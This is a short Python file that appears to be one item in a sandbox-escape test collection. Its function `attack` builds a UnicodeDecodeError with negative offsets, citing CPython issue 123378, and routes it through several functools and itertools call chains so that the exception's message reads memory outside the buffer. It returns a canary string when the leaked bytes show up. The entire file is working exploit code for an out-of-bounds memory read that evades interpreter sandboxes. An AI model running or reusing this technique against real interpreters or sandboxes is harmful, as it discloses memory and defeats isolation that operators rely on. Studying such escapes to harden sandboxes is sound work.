"""Class: memory. Source: own find. Escape: memory outside is read. What `partial`, `reduce`, `repeat` and `product` are given
and do not call themselves is handed on as it is: here an exception's class that may only be caught, and whose text
reads memory where it is told (CPython issue 123378), for `starmap` to call."""

import functools
import itertools


def attack(model, tokenizer, address):
    kind, rows = UnicodeDecodeError, [("x", bytes(77), -16, -15, "r")]
    ways = (
        lambda: functools.reduce(itertools.starmap, [rows], kind),
        lambda: functools.partial(itertools.starmap, kind)(rows),
        lambda: functools.partial(functools.reduce, itertools.starmap, [rows])(kind),
        lambda: next(map(itertools.starmap, itertools.repeat(kind, 1), [rows])),
        lambda: next(itertools.starmap(itertools.starmap, itertools.product([kind], [rows]))),
        lambda: max([rows], key=functools.partial(itertools.starmap, kind)),
        lambda: functools.partial(itertools.starmap)(function=kind, iterable=rows),
    )
    found = []
    for way in ways:
        try:
            found += [str(each) for each in way()]
        except Exception:
            pass
    return "canary-" + "5d1f" if any("byte 0x4d" in each for each in found) else None
